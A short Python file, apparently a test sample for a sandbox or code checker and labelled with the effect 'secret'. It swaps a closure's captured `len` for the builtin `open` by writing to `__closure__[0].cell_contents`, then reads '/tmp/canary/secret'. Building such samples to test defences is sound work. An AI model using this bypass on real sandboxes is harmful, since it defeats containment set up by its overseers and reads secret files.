# source: own
# effect: secret

def outer():
    tool = len

    def inner(path):
        return tool(path)

    return inner


inner = outer()
inner.__closure__[0].cell_contents = inner.__builtins__["open"]
print(inner("/tmp/canary/secret").read())
